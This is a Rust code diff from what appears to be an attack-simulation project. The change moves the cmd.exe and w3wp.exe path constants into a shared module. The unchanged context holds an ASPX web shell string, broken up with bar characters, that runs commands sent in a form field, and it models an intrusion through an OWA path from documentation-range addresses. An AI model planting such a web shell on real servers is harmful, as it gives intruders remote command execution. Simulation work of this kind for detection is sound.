@@ -6,6 +6,7 @@ use crate::attack::odd_page::OddPage;
 use crate::attack::{Below, Intruder, Page, Place};
 use crate::host::{Columns, Heading, Host, WebColumns};
 use crate::moment::Moment;
+use crate::program::{CMD, W3WP};
 use crate::server::Encoding;
 use crate::shape::Shape;
 use crate::technique::Technique;
@@ -188,9 +189,6 @@ const DRUM: Intruder =
     Intruder { addresses: &["203.0.113.99", "203.0.113.100"], stem: "/owa/auth/logoff.ttf", ..BASSOON };
 
 const WRITTEN: &str = "<%@ Page Language=\"C#\" validateRequest=\"false\"%><%@ Import Namespace=\"System.Diagnostics\" %><%var i=new Process¦StartInfo(\"cmd\",\"/c \"+Req¦uest.Form[\"tok\"]){RedirectStandardOutput=true,UseShell¦Execute=false};Response.Write(Pro¦cess.St¦art(i).StandardOutput.ReadToEnd());%>\r\n";
-
-const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
 
 const AFTERMATH: Aftermath = Aftermath {
     deeds: &[
